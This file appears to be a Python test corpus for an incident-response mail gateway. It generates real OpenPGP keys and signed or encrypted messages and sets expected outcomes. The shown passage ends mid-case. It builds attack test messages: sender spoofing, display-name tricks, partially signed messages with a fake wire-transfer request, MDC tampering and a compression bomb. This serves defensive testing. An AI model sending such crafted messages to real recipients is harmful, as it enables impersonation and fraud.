#!/usr/bin/python3
"""OpenPGP test corpus for csirtgw: real keys and real messages, made at test time.

Everything here is built with the real tools (gpg 2.2 and Sequoia `sq` 0.27) in
temporary directories: no canned armor.  Used by test_openpgp.py; run this file
directly for a self-check of the corpus that needs no daemon:

    /usr/bin/python3 tests/integration/openpgp_corpus.py [--keep]

(it makes its own "team" key, builds every message, and checks each one with
gpg/sq: signatures verify or fail as intended, the no-MDC message really has a
SED packet, the tampered-MDC message really fails its MDC check after gpg has
written the plaintext, the bomb really inflates past the 64 MB cap, ...).

Pieces:
  * armor()/dearmor()/packets()   - a small OpenPGP packet reader (RFC 4880 4.2)
  * GpgKey, SqKey                 - one key each, with sign/encrypt helpers
  * make_keys(workdir)            - the cast, each key in its own gpg homedir (or sq
                                    key file): reporter (gpg Ed25519/Cv25519), rsa
                                    (gpg RSA-3072), attacker (Ed25519; also carries a
                                    reporter@ user id, registered for attacker@ only),
                                    expired (made 30 days ago with 1 day validity via
                                    --faked-system-time), revoked (gpg's own revocation
                                    certificate), unknown (never imported), sq and sqrsa
                                    (sq Cv25519 / RSA-3072: signing SUBkeys), removed
                                    (imported, then `keys remove`d)
  * Keys.import_team(pub)         - every key learns the team's public key
  * Case                          - one message plus its expected outcome
  * build_corpus(keys)            - every Case: FORMAT_ROWS x SIGNER_VARIANTS, then
                                    ATTACK_ROWS (docs/SECURITY.md classes)
  * case_names()                  - the names build_corpus() makes (static)
  * SelfCheck / selfcheck()       - checks the corpus with gpg/sq, no daemon

Expected outcomes follow tests/OPENPGP-CONTRACT.md.  Where the contract is
silent the Case says so (expect queue None = either queue accepted; signature or
encryption given as a tuple = any of these values accepted) and `note` explains.
"""

import atexit
import base64
import concurrent.futures
import email.utils
import hashlib
import os
import re
import shutil
import subprocess
import sys
import tempfile
import time

GPG = "gpg"
SQ = "sq"
TEAM_DOMAIN = "csirt.example"
INTAKE = "cert@csirt.example"

MAX_PLAINTEXT = 64 * 1024 * 1024          # contract default openpgp.max_plaintext
BOMB_SIZE = 200 * 1024 * 1024             # zeros in the compression bomb

CRLF = b"\r\n"

# --------------------------------------------------------------------------
# process / temp-dir hygiene: every gpg homedir made here gets its agent killed
# at exit (atexit runs LIFO, so this runs before harness removes temp dirs)
# --------------------------------------------------------------------------
_homedirs = []
_own_tmp = []


def _kill_agents():
    while _homedirs:
        hd = _homedirs.pop()
        if os.path.isdir(hd):
            subprocess.run(["gpgconf", "--homedir", hd, "--kill", "all"],
                           stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                           stderr=subprocess.DEVNULL, timeout=30)
    if os.environ.get("CSIRTGW_IT_KEEP") != "1":
        while _own_tmp:
            shutil.rmtree(_own_tmp.pop(), ignore_errors=True)


atexit.register(_kill_agents)


def new_homedir(parent, name):
    hd = os.path.join(parent, name)
    os.makedirs(hd, mode=0o700, exist_ok=False)
    os.chmod(hd, 0o700)
    _homedirs.append(hd)
    return hd


def own_tmpdir(prefix):
    d = tempfile.mkdtemp(prefix=prefix)
    _own_tmp.append(d)
    return d


class ToolError(AssertionError):
    pass


def run(argv, data=None, check=True, timeout=120, env=None):
    """Run a tool; returns CompletedProcess (stdout/stderr bytes)."""
    e = dict(os.environ)
    e.pop("GNUPGHOME", None)
    e["LC_ALL"] = "C"
    if env:
        e.update(env)
    cp = subprocess.run(argv, input=data, stdout=subprocess.PIPE,
                        stderr=subprocess.PIPE, timeout=timeout, env=e,
                        stdin=None if data is not None else subprocess.DEVNULL)
    if check and cp.returncode != 0:
        raise ToolError(f"{' '.join(map(str, argv))} -> exit {cp.returncode}\n"
                        f"{cp.stderr.decode('utf-8', 'replace')[-3000:]}")
    return cp


def crlf(b):
    """Any line ends -> CRLF."""
    if isinstance(b, str):
        b = b.encode()
    return b.replace(b"\r\n", b"\n").replace(b"\r", b"\n").replace(b"\n", b"\r\n")


def lf(b):
    return b.replace(b"\r\n", b"\n")


# --------------------------------------------------------------------------
# OpenPGP packets and armor (RFC 4880 4.2, 6)
# --------------------------------------------------------------------------
def _crc24(data):
    crc = 0xB704CE
    for byte in data:
        crc ^= byte << 16
        for _ in range(8):
            crc <<= 1
            if crc & 0x1000000:
                crc ^= 0x1864CFB
    return crc & 0xFFFFFF


def armor(data, kind="MESSAGE"):
    b64 = base64.b64encode(data).decode()
    lines = [b64[i:i + 64] for i in range(0, len(b64), 64)]
    crc = base64.b64encode(_crc24(data).to_bytes(3, "big")).decode()
    return (f"-----BEGIN PGP {kind}-----\n\n" + "\n".join(lines) +
            f"\n={crc}\n-----END PGP {kind}-----\n").encode()


ARMOR_RE = re.compile(rb"-----BEGIN PGP ([A-Z ,0-9/]+)-----\r?\n(.*?)-----END PGP \1-----", re.S)


def dearmor(text):
    """First armored block in text -> binary (checksum verified)."""
    if isinstance(text, str):
        text = text.encode()
    m = ARMOR_RE.search(text)
    if not m:
        return text                    # already binary
    body = lf(m.group(2))
    _, _, rest = body.partition(b"\n\n")      # skip armor headers
    if not rest:
        rest = body
    b64, crc = [], None
    for ln in rest.split(b"\n"):
        ln = ln.strip()
        if not ln:
            continue
        if ln.startswith(b"=") and len(ln) == 5:
            crc = ln[1:]
            continue
        b64.append(ln)
    data = base64.b64decode(b"".join(b64))
    if crc is not None:
        want = int.from_bytes(base64.b64decode(crc), "big")
        if _crc24(data) != want:
            raise ValueError("armor checksum mismatch")
    return data


class Packet:
    def __init__(self, tag, start, body_start, end, body, partial):
        self.tag, self.start, self.body_start, self.end = tag, start, body_start, end
        self.body, self.partial = body, partial

    def __repr__(self):
        return f"<Packet tag={self.tag} off={self.start} len={len(self.body)}{' partial' if self.partial else ''}>"


def packets(data):
    """Top-level packets of binary OpenPGP data (handles partial body lengths)."""
    out, i, n = [], 0, len(data)
    while i < n:
        start = i
        ctb = data[i]
        i += 1
        if not ctb & 0x80:
            raise ValueError(f"bad CTB 0x{ctb:02x} at {start}")
        partial = False
        if ctb & 0x40:                         # new format
            tag = ctb & 0x3F
            body = b""
            while True:
                o = data[i]
                if o < 192:
                    ln, i = o, i + 1
                    last = True
                elif o < 224:
                    ln, i = ((o - 192) << 8) + data[i + 1] + 192, i + 2
                    last = True
                elif o == 255:
                    ln, i = int.from_bytes(data[i + 1:i + 5], "big"), i + 5
                    last = True
                else:
                    ln, i = 1 << (o & 0x1F), i + 1
                    last = False
                    partial = True
                body += data[i:i + ln]
                i += ln
                if last:
                    break
            body_start = None if partial else i - len(body)
        else:                                  # old format
            tag = (ctb >> 2) & 0x0F
            lt = ctb & 3
            if lt == 0:
                ln, i = data[i], i + 1
            elif lt == 1:
                ln, i = int.from_bytes(data[i:i + 2], "big"), i + 2
            elif lt == 2:
                ln, i = int.from_bytes(data[i:i + 4], "big"), i + 4
            else:
                ln = n - i
            body = data[i:i + ln]
            body_start = i
            i += ln
        out.append(Packet(tag, start, body_start, i, body, partial))
    return out


HASH_NAMES = {1: "md5", 2: "sha1", 3: "ripemd160", 8: "sha256", 9: "sha384",
              10: "sha512", 11: "sha224"}


def signature_hashes(sig):
    """Hash algorithm names of the signature packets in (armored) sig."""
    out = []
    for p in packets(dearmor(sig)):
        if p.tag != 2:
            continue
        if p.body[0] == 4:
            out.append(HASH_NAMES[p.body[3]])
        elif p.body[0] in (2, 3):
            out.append(HASH_NAMES[p.body[16]])
        else:
            raise ValueError(f"signature version {p.body[0]}")
    return out


def micalg(sig):
    hs = sorted(set(signature_hashes(sig)))
    return ",".join("pgp-" + h for h in hs)


def v4_fingerprint(pubkey_body):
    return hashlib.sha1(b"\x99" + len(pubkey_body).to_bytes(2, "big") + pubkey_body).hexdigest().upper()


def cert_fingerprints(cert):
    """(primary fpr, [subkey fprs]) of an (armored) v4 certificate."""
    prim, subs = None, []
    for p in packets(dearmor(cert)):
        if p.tag == 6 and prim is None:
            prim = v4_fingerprint(p.body)
        elif p.tag == 14:
            subs.append(v4_fingerprint(p.body))
    return prim, subs


def flip_last_byte(armored_msg):
    """Flip the last byte of the integrity-protected data packet (tag 18) of an
    armored message: in CFB that changes only the last plaintext byte, i.e. the
    MDC hash; the literal data decrypts intact before the MDC check fails."""
    data = bytearray(dearmor(armored_msg))
    pk = packets(bytes(data))
    if pk[-1].tag != 18:
        raise ValueError(f"last packet is not SEIPD: {pk}")
    data[-1] ^= 0x01
    return armor(bytes(data))


# --------------------------------------------------------------------------
# keys
# --------------------------------------------------------------------------
class GpgKey:
    """A key in its own gpg homedir (so one can be revoked or time-shifted alone)."""

    tool = "gpg"

    def __init__(self, parent, name, uid, algo, usage, expire="never",
                 faked_time=None, extra_uids=()):
        self.name = name
        self.uid = uid
        self.email = re.search(r"<([^>]+)>", uid).group(1)
        self.homedir = new_homedir(parent, f"gpg-{name}")
        self.faked_time = faked_time          # epoch seconds for every op (expired key)
        self.gpg("--quick-gen-key", uid, algo, usage, expire)
        self.fpr = self._primary_fpr()
        for u in extra_uids:
            self.gpg("--quick-add-uid", self.fpr, u)
        self.algo = algo
        self.team_fpr = None
        self.signing_fpr = self.fpr

    def gpg(self, *args, data=None, check=True, faked=True):
        argv = [GPG, "--homedir", self.homedir, "--batch", "--no-tty", "--quiet",
                "--pinentry-mode", "loopback", "--passphrase", "",
                "--trust-model", "always", "--no-auto-key-locate",
                "--no-greeting", "--no-permission-warning"]
        if self.faked_time and faked:
            argv += ["--faked-system-time", str(self.faked_time), "--ignore-time-conflict"]
        return run(argv + list(args), data=data, check=check)

    def _primary_fpr(self):
        out = self.gpg("--with-colons", "--list-secret-keys").stdout.decode()
        for ln in out.splitlines():
            if ln.startswith("fpr:"):
                return ln.split(":")[9]
        raise ToolError(f"no key in {self.homedir}")

    def export_public(self):
        return self.gpg("--export", "--armor", self.fpr).stdout

    def import_team(self, team_pub):
        self.gpg("--import", data=team_pub, faked=False)
        fpr, _ = cert_fingerprints(team_pub)
        self.team_fpr = fpr

    # -- operations --------------------------------------------------------
    def detach_sign(self, data):
        return self.gpg("--local-user", self.fpr, "--armor", "--detach-sign", data=data).stdout

    def clearsign(self, text):
        return self.gpg("--local-user", self.fpr, "--clearsign", data=text).stdout

    def encrypt(self, data, sign=False, compress="zlib", filename=None, rfc2440=False,
                extra=()):
        args = ["--armor", "--recipient", self.team_fpr]
        if compress == "none":
            args += ["--compress-algo", "none"]
        else:
            args += ["--compress-algo", compress]
        if filename is not None:
            args += ["--set-filename", filename]
        if rfc2440:
            args += ["--rfc2440"]
        args += list(extra)
        if sign:
            args += ["--local-user", self.fpr, "--sign"]
        return self.gpg(*args, "--encrypt", data=data).stdout

    def kill_agent(self):
        run(["gpgconf", "--homedir", self.homedir, "--kill", "all"], check=False)


class SqKey:
    """A key made by Sequoia sq (Cv25519: certification-only primary, signing and
    encryption subkeys -- so the signature's issuer is a subkey)."""

    tool = "sq"

    def __init__(self, parent, name, uid, suite="cv25519", created=None):
        """created: epoch seconds of the key's creation (default now; sq key generate
        --creation-time, for a key that can sign as of the past)."""
        self.name = name
        self.uid = uid
        self.email = re.search(r"<([^>]+)>", uid).group(1)
        self.dir = os.path.join(parent, f"sq-{name}")
        os.makedirs(self.dir, mode=0o700)
        self.keyfile = os.path.join(self.dir, "key.pgp")
        self.certfile = os.path.join(self.dir, "cert.asc")
        when = []
        if created is not None:
            when = ["--creation-time", time.strftime("%Y%m%dT%H%M%SZ", time.gmtime(created)),
                    "--expires", "never"]
        run([SQ, "key", "generate", "--cipher-suite", suite, "--userid", uid] + when +
            ["--export", self.keyfile])
        run([SQ, "key", "extract-cert", "--output", self.certfile, self.keyfile])
        with open(self.certfile, "rb") as f:
            self.cert = f.read()
        self.fpr, self.subkey_fprs = cert_fingerprints(self.cert)
        self.algo = f"sq-{suite}"
        self.team_cert = None
        self.team_fpr = None

    def export_public(self):
        return self.cert

    def import_team(self, team_pub):
        self.team_cert = os.path.join(self.dir, "team.asc")
        with open(self.team_cert, "wb") as f:
            f.write(team_pub)
        self.team_fpr, _ = cert_fingerprints(team_pub)

    def detach_sign(self, data, notations=()):
        argv = [SQ, "sign", "--detached", "--signer-key", self.keyfile]
        for name, value in notations:
            argv += ["--notation", name, value]
        return run(argv, data=data).stdout

    def clearsign(self, text):
        return run([SQ, "sign", "--cleartext-signature", "--signer-key", self.keyfile],
                   data=text).stdout

    def encrypt(self, data, sign=False, compress=None, filename=None, rfc2440=False, extra=()):
        if filename is not None or rfc2440:
            raise ValueError("sq cannot do that")
        argv = [SQ, "encrypt", "--recipient-cert", self.team_cert]
        if compress == "none":
            argv += ["--compression", "none"]
        if sign:
            argv += ["--signer-key", self.keyfile]
        return run(argv, data=data).stdout

    def kill_agent(self):
        pass


class Keys:
    """The cast.  `registered` = what the test imports into the daemon:
    name -> (public key bytes, --email address)."""

    def __init__(self, workdir):
        self.workdir = workdir
        self.by_name = {}
        self.revoked_public = None

    def __getitem__(self, name):
        return self.by_name[name]

    def all(self):
        return list(self.by_name.values())

    def registered(self):
        out = []
        for name in ("reporter", "rsa", "attacker", "expired", "revoked", "sq", "sqrsa",
                     "removed"):
            k = self.by_name[name]
            pub = self.revoked_public if name == "revoked" else k.export_public()
            out.append((name, k, pub, k.email))
        return out

    def import_team(self, team_pub):
        for k in self.all():
            k.import_team(team_pub)


REPORTER = "reporter@example.org"
RSA_REPORTER = "rsa-reporter@example.org"
ATTACKER = "attacker@evil.example"
EXPIRED = "expired@example.org"
REVOKED = "revoked@example.org"
UNKNOWN = "unknown@example.org"
SQ_REPORTER = "sq-reporter@example.net"
SQ_RSA_REPORTER = "sq-rsa-reporter@example.net"
REMOVED = "removed@example.org"


def make_keys(workdir):
    """Generate the cast in parallel (RSA-3072 takes a few seconds)."""
    keys = Keys(workdir)
    now = int(time.time())
    t_expired = now - 30 * 86400          # key made 30 days ago, valid for 1 day
    specs = {
        "reporter": lambda: GpgKey(workdir, "reporter", f"Reporter <{REPORTER}>",
                                   "future-default", "default"),
        "rsa": lambda: GpgKey(workdir, "rsa", f"RSA Reporter <{RSA_REPORTER}>",
                              "rsa3072", "default"),
        # the attacker's key also carries the victim's address as a user id:
        # anyone can do that; only the registry's --email binding counts
        "attacker": lambda: GpgKey(workdir, "attacker", f"Attacker <{ATTACKER}>",
                                   "future-default", "default",
                                   extra_uids=(f"Reporter <{REPORTER}>",)),
        "expired": lambda: GpgKey(workdir, "expired", f"Expired <{EXPIRED}>",
                                  "ed25519", "sign", expire="1d", faked_time=t_expired),
        "revoked": lambda: GpgKey(workdir, "revoked", f"Revoked <{REVOKED}>",
                                  "future-default", "default"),
        "unknown": lambda: GpgKey(workdir, "unknown", f"Unknown <{UNKNOWN}>",
                                  "future-default", "default"),
        "sq": lambda: SqKey(workdir, "sq", f"<{SQ_REPORTER}>"),
        "sqrsa": lambda: SqKey(workdir, "sqrsa", f"<{SQ_RSA_REPORTER}>", suite="rsa3k"),
        # imported, then removed with `csirtgw keys remove` before any mail is sent
        "removed": lambda: GpgKey(workdir, "removed", f"Removed <{REMOVED}>",
                                  "future-default", "default"),
    }
    with concurrent.futures.ThreadPoolExecutor(max_workers=len(specs)) as ex:
        futs = {n: ex.submit(f) for n, f in specs.items()}
        for n, f in futs.items():
            keys.by_name[n] = f.result()
    # the expired key signs an hour after its creation (when it was valid)
    keys["expired"].faked_time = t_expired + 3600
    # revoked: the signing homedir keeps the unrevoked secret key; the public
    # key the daemon gets carries the revocation (imported into a scratch home
    # from gpg's own revocation certificate in openpgp-revocs.d)
    rk = keys["revoked"]
    with open(os.path.join(rk.homedir, "openpgp-revocs.d", rk.fpr + ".rev"), "rb") as f:
        rev = f.read().replace(b":-----BEGIN PGP PUBLIC KEY BLOCK-----",
                               b"-----BEGIN PGP PUBLIC KEY BLOCK-----")
    scratch = new_homedir(workdir, "gpg-revoked-public")
    base = [GPG, "--homedir", scratch, "--batch", "--no-tty", "--quiet"]
    run(base + ["--import"], data=rk.export_public())
    run(base + ["--import"], data=rev)
    keys.revoked_public = run(base + ["--export", "--armor", rk.fpr]).stdout
    cols = run(base + ["--with-colons", "--list-keys", rk.fpr]).stdout.decode()
    if not re.search(r"(?m)^pub:r:", cols):
        raise ToolError(f"revocation not applied:\n{cols}")
    return keys


# --------------------------------------------------------------------------
# MIME building (all CRLF)
# --------------------------------------------------------------------------
def entity(headers, body):
    """A MIME entity: header lines + blank line + body, CRLF line ends."""
    return crlf("\r\n".join(headers) + "\r\n\r\n") + crlf(body)


def text_entity(text, extra_headers=()):
    return entity(["Content-Type: text/plain; charset=us-ascii",
                   "Content-Transfer-Encoding: 7bit"] + list(extra_headers), text)


def boundary(tag):
    return f"=-=csirtgw-it-{tag}-{os.urandom(6).hex()}=-="


def multipart(subtype, parts, params="", preamble="", tag="mp"):
    """(Content-Type header, body) of a multipart with the given part entities.
    A part entity's bytes are exactly what sits between "--B\\r\\n" and "\\r\\n--B"."""
    b = boundary(tag)
    ct = f'Content-Type: multipart/{subtype}; boundary="{b}"' + (f"; {params}" if params else "")
    body = crlf(preamble + "\r\n") if preamble else b""
    for p in parts:
        body += b"--" + b.encode() + CRLF + p + CRLF
    body += b"--" + b.encode() + b"--" + CRLF
    return ct, body


def pgp_encrypted(armored, tag="enc"):
    """RFC 3156 section 4: multipart/encrypted as (Content-Type, body)."""
    ver = entity(["Content-Type: application/pgp-encrypted",
                  "Content-Description: PGP/MIME version identification"], "Version: 1\r\n")
    data = entity(['Content-Type: application/octet-stream; name="encrypted.asc"',
                   "Content-Description: OpenPGP encrypted message",
                   'Content-Disposition: inline; filename="encrypted.asc"'], armored)
    return multipart("encrypted", [ver, data], params='protocol="application/pgp-encrypted"',
                     preamble="This is an OpenPGP/MIME encrypted message (RFC 4880 and 3156)",
                     tag=tag)


def pgp_signed(signed_entity, sig_armored, tag="sig"):
    """RFC 3156 section 5: multipart/signed as (Content-Type, body).
    signed_entity: the exact bytes that were signed (CRLF)."""
    sig = entity(['Content-Type: application/pgp-signature; name="signature.asc"',
                  "Content-Description: OpenPGP digital signature",
                  'Content-Disposition: attachment; filename="signature.asc"'], sig_armored)
    return multipart("signed", [signed_entity, sig],
                     params=f'micalg={micalg(sig_armored)}; protocol="application/pgp-signature"',
                     preamble="This is an OpenPGP/MIME signed message (RFC 4880 and 3156)",
                     tag=tag)


def as_entity(ct_body, extra_headers=()):
    ct, body = ct_body
    return crlf("\r\n".join([ct] + list(extra_headers)) + "\r\n\r\n") + body


def message(token, row, ct_body, from_=None, extra_headers=(), from_lines=None,
            subject_extra=""):
    """Top-level message bytes: outer headers + the entity's Content-Type + body.
    from_: the From field value (None = use from_lines; from_lines=[] = no From)."""
    ct, body = ct_body
    hdrs = []
    if from_lines is not None:
        hdrs += [f"From: {v}" for v in from_lines]
    else:
        hdrs.append(f"From: {from_}")
    hdrs += [f"To: {INTAKE}",
             f"Subject: openpgp {row} {token}{subject_extra}",
             f"Message-ID: <{token}@it.csirtgw.test>",
             # now: a signed message's Date may not lie long after its signature (replays)
             "Date: " + email.utils.formatdate(usegmt=True),
             "MIME-Version: 1.0"]
    hdrs += list(extra_headers)
    hdrs.append(ct)
    return crlf("\r\n".join(hdrs) + "\r\n\r\n") + body


def text_ct_body(text):
    return ("Content-Type: text/plain; charset=us-ascii\r\nContent-Transfer-Encoding: 7bit",
            crlf(text))


def report_text(token, secret, who="reporter"):
    return (f"Incident report {token} from {who}.\r\n"
            "Host 192.0.2.17 scanned 198.51.100.0/24 on 2026-11-20T10:00:00Z.\r\n"
            f"Confidential detail: {secret}\r\n"
            "Regards,\r\nThe reporter\r\n")
# (no trailing whitespace anywhere -- RFC 3156 5 asks for that, and sq 0.27 makes
# cleartext signatures over lines with trailing blanks that nobody can verify)


def html_entity(html):
    return entity(["Content-Type: text/html; charset=us-ascii"], html)


# --------------------------------------------------------------------------
# cases
# --------------------------------------------------------------------------
FORGED_FPR = "DEADBEEF" * 5          # never a real fingerprint


class Case:
    """One message and what the daemon must make of it.

    expect: dict with
      queue       'incoming' | 'quarantine' | None (contract silent: either)
      encryption  'none' | 'decrypted' | 'failed'
      signature   a value, or a tuple of accepted values
      verified    'yes' | 'no'
      signer      40-hex fpr that X-Csirtgw-Signer must equal, None = must be
                  absent, ANY = not checked (several signatures)
    secret:      a string in the plaintext of the ciphertext; must be in the filed
                 message iff decrypted (never for failed)
    ciphertext:  armored ciphertext at the root (checked in DIR/originals/ when
                 decrypted; for failed: kept in the filed message or originals)
    forbidden:   byte strings that must not appear anywhere in the filed message
    never:       plaintext strings that must not be in any filed message at all
    expect['encryption'] may also be a tuple of accepted values (contract silent).
    """

    ANY = "any"

    def __init__(self, row, variant, token, raw, env_from, expect, secret=None,
                 ciphertext=None, forbidden=(), note="", forged=False,
                 filed_ct=None, never=()):
        self.row, self.variant, self.token, self.raw = row, variant, token, raw
        self.env_from = env_from
        self.expect = expect
        self.secret = secret
        self.ciphertext = ciphertext
        self.forbidden = list(forbidden)
        self.note = note
        self.forged = forged
        self.filed_ct = filed_ct        # expected Content-Type (main type/subtype) when decrypted
        self.never = list(never)        # plaintext that must be in NO filed message, whatever happens

    @property
    def name(self):
        return f"{self.row}.{self.variant}" if self.variant else self.row

    def __repr__(self):
        return f"<Case {self.name} {self.token}>"


def exp(queue, encryption, signature, verified, signer=None):
    return dict(queue=queue, encryption=encryption, signature=signature,
                verified=verified, signer=signer)


def _tok(prefix):
    return f"{prefix}-{os.getpid()}-{int(time.time() * 1000) % 10**8}-{os.urandom(5).hex()}"


def _secret(row):
    return f"SECRET-{row}-{os.urandom(6).hex()}"


# -- format rows: one per signer variant ---------------------------------------
FORMAT_ROWS = ("mime_encrypted", "mime_signed", "mime_signed_encrypted_combined",
               "mime_encrypted_of_signed", "inline_encrypted", "inline_signed_encrypted",
               "inline_clearsigned")

# gpg Ed25519/Cv25519, gpg RSA-3072, sq Cv25519 (Ed25519 signing subkey), sq RSA-3072
SIGNER_VARIANTS = ("reporter", "rsa", "sq", "sqrsa")


def format_cases(keys, variant):
    k = keys[variant]
    cases = []
    frm = f"Reporter <{k.email}>"

    def add(row, raw, tok, expect, **kw):
        cases.append(Case(row, variant, tok, raw, k.email, expect, **kw))

    # PGP/MIME encrypted, not signed
    tok, sec = _tok("enc"), _secret("enc")
    inner = text_entity(report_text(tok, sec))
    ct = k.encrypt(inner)
    add("mime_encrypted", message(tok, "mime_encrypted", pgp_encrypted(ct), frm), tok,
        exp("incoming", "decrypted", "none", "no"), secret=sec, ciphertext=ct,
        filed_ct="text/plain")

    # PGP/MIME signed
    tok = _tok("sig")
    signed = text_entity(report_text(tok, "not-secret"))
    sig = k.detach_sign(signed)
    add("mime_signed", message(tok, "mime_signed", pgp_signed(signed, sig), frm), tok,
        exp("incoming", "none", "good", "yes", k.fpr))

    # one OpenPGP message, signed and encrypted (RFC 3156 6.2)
    tok, sec = _tok("se1"), _secret("se1")
    inner = text_entity(report_text(tok, sec))
    ct = k.encrypt(inner, sign=True)
    add("mime_signed_encrypted_combined",
        message(tok, "mime_signed_encrypted_combined", pgp_encrypted(ct), frm), tok,
        exp("incoming", "decrypted", "good", "yes", k.fpr), secret=sec, ciphertext=ct,
        filed_ct="text/plain")

    # multipart/encrypted whose plaintext is multipart/signed (RFC 3156 6.1)
    tok, sec = _tok("se2"), _secret("se2")
    signed = text_entity(report_text(tok, sec))
    sig = k.detach_sign(signed)
    inner = as_entity(pgp_signed(signed, sig))
    ct = k.encrypt(inner)
    add("mime_encrypted_of_signed",
        message(tok, "mime_encrypted_of_signed", pgp_encrypted(ct), frm), tok,
        exp("incoming", "decrypted", "good", "yes", k.fpr), secret=sec, ciphertext=ct,
        filed_ct="multipart/signed")

    # inline: the whole text/plain body is one armored PGP MESSAGE
    tok, sec = _tok("ie"), _secret("ie")
    ct = k.encrypt(crlf(report_text(tok, sec)))
    add("inline_encrypted", message(tok, "inline_encrypted", text_ct_body(ct), frm), tok,
        exp("incoming", "decrypted", "none", "no"), secret=sec, ciphertext=ct,
        filed_ct="text/plain")

    tok, sec = _tok("ise"), _secret("ise")
    ct = k.encrypt(crlf(report_text(tok, sec)), sign=True)
    add("inline_signed_encrypted",
        message(tok, "inline_signed_encrypted", text_ct_body(ct), frm), tok,
        exp("incoming", "decrypted", "good", "yes", k.fpr), secret=sec, ciphertext=ct,
        filed_ct="text/plain")

    # inline clearsigned: the one block is all of the text
    tok = _tok("cs")
    cs = k.clearsign(crlf(report_text(tok, "not-secret")))
    add("inline_clearsigned", message(tok, "inline_clearsigned", text_ct_body(cs), frm), tok,
        exp("incoming", "none", "good", "yes", k.fpr))
    return cases


# -- attack rows (docs/SECURITY.md) ---------------------------------------------
ATTACK_ROWS = (
    "id_attack", "id_attack_encrypted", "display_name_trick",
    "display_name_trick_attacker_signs", "display_name_converse", "two_from_mailboxes",
    "two_from_fields", "missing_from",
    "partial_mime", "partial_mime_hidden", "partial_inside_encryption",
    "partial_inline_before", "partial_inline_after",
    "tampered_mime", "tampered_mime_rsa", "tampered_mime_sq", "tampered_clearsigned",
    "unknown_key", "expired_key", "revoked_key",
    "mixed_good_bad", "mixed_attacker_good_victim_bad", "mixed_good_unknown",
    "no_mdc", "no_mdc_inline", "bad_mdc", "bad_mdc_sq", "bad_mdc_signed",
    "wrapped_encrypted", "two_encrypted_siblings", "encrypted_in_rfc822",
    "inline_encrypted_not_root", "literal_filename_status", "compression_bomb",
    "forged_headers_plain", "forged_headers_encrypted", "forged_headers_signed",
    # edge cases of the same classes
    "mime_signed_textmode", "mime_signed_boundary_in_body", "inline_clearsigned_whitespace",
    "inline_two_clearsigned", "encoded_display_name", "comment_address", "sender_differs",
    "double_encrypted", "concatenated_armor", "many_pkesk",
    "inline_clearsigned_qp", "inline_encrypted_base64", "mime_signed_case_variants",
    "from_folded", "removed_key", "mime_encrypted_to_self", "mime_encrypted_hidden_recipient",
    "symmetric_only", "encrypted_to_other_key",
    "forged_header_obs_syntax", "from_uppercase", "duplicate_content_type",
    "partial_mime_related_cid", "notation_status_lines",
)


def case_names(variants=SIGNER_VARIANTS):
    """Every Case.name build_corpus() makes, in order (known before any key exists)."""
    return [f"{r}.{v}" for v in variants for r in FORMAT_ROWS] + list(ATTACK_ROWS)


def attack_cases(keys, rows=None):
    rep, rsa, att = keys["reporter"], keys["rsa"], keys["attacker"]
    unk, expd, revk, sqk = keys["unknown"], keys["expired"], keys["revoked"], keys["sq"]
    cases = []
    REP_FROM = f"Reporter <{REPORTER}>"

    def want(row):
        return rows is None or row in rows

    def add(row, variant, tok, raw, env_from, expect, **kw):
        cases.append(Case(row, variant, tok, raw, env_from, expect, **kw))

    def signed_msg(row, signer, from_=REP_FROM, from_lines=None, text=None, tag=""):
        tok = _tok(row[:8])
        part = text_entity(text or report_text(tok, "not-secret"))
        sig = signer.detach_sign(part)
        return tok, message(tok, row, pgp_signed(part, sig), from_, from_lines=from_lines)

    SIGPROB = ("contract silent on the queue of signature-only problems "
               "(DESIGN.md: 'unverifiable ... mail goes to a quarantine queue')")

    # ---- ID attacks ----------------------------------------------------------
    if want("id_attack"):
        tok, raw = signed_msg("id_attack", att)
        add("id_attack", "", tok, raw, REPORTER, exp(None, "none", "good", "no", att.fpr),
            note="valid signature by the attacker's registered key (whose key also carries "
                 "a reporter@ user id), From: reporter. " + SIGPROB)
    if want("id_attack_encrypted"):
        tok, sec = _tok("idenc"), _secret("idenc")
        ct = att.encrypt(text_entity(report_text(tok, sec)), sign=True)
        add("id_attack_encrypted", "", tok,
            message(tok, "id_attack_encrypted", pgp_encrypted(ct), REP_FROM), REPORTER,
            exp(None, "decrypted", "good", "no", att.fpr), secret=sec, ciphertext=ct,
            filed_ct="text/plain", note=SIGPROB)
    if want("display_name_trick"):
        tok, raw = signed_msg("display_name_trick", rep, from_=f'"{REPORTER}" <{ATTACKER}>')
        add("display_name_trick", "", tok, raw, ATTACKER,
            exp(None, "none", "good", "no", rep.fpr),
            note="From: \"reporter@\" <attacker@>, signed by reporter: the addr-spec is the "
                 "attacker's, not bound to the reporter's key. " + SIGPROB)
    if want("display_name_trick_attacker_signs"):
        tok, raw = signed_msg("display_name_trick_attacker_signs", att,
                              from_=f'"{REPORTER}" <{ATTACKER}>')
        add("display_name_trick_attacker_signs", "", tok, raw, ATTACKER,
            exp("incoming", "none", "good", "yes", att.fpr),
            note="same From signed by the attacker: verified -- as the ATTACKER (Signer = "
                 "attacker fpr); the display name must not be read as an address")
    if want("display_name_converse"):
        tok, raw = signed_msg("display_name_converse", rep, from_=f'"{ATTACKER}" <{REPORTER}>')
        add("display_name_converse", "", tok, raw, REPORTER,
            exp("incoming", "none", "good", "yes", rep.fpr),
            note="From: \"attacker@\" <reporter@> signed by reporter: the addr-spec counts")
    if want("two_from_mailboxes"):
        tok, raw = signed_msg("two_from_mailboxes", rep, from_=f"{REPORTER}, {ATTACKER}")
        add("two_from_mailboxes", "", tok, raw, REPORTER,
            exp(None, "none", "good", "no", rep.fpr), note=SIGPROB)
    if want("two_from_fields"):
        tok, raw = signed_msg("two_from_fields", rep, from_lines=[REP_FROM, f"<{ATTACKER}>"])
        add("two_from_fields", "", tok, raw, REPORTER,
            exp(None, "none", "good", "no", rep.fpr),
            note="two From: header fields. " + SIGPROB)
    if want("missing_from"):
        tok, raw = signed_msg("missing_from", rep, from_lines=[])
        add("missing_from", "", tok, raw, REPORTER,
            exp(None, "none", "good", "no", rep.fpr), note=SIGPROB)

    # ---- partial signatures --------------------------------------------------
    if want("partial_mime"):
        tok = _tok("pmime")
        part = text_entity(report_text(tok, "not-secret"))
        sig = rep.detach_sign(part)
        unsigned = text_entity("URGENT: wire 50,000 EUR to the account below. "
                               "This part is NOT signed.\r\n")
        raw = message(tok, "partial_mime",
                      multipart("mixed", [unsigned, as_entity(pgp_signed(part, sig))],
                                tag="pm"), REP_FROM)
        add("partial_mime", "", tok, raw, REPORTER,
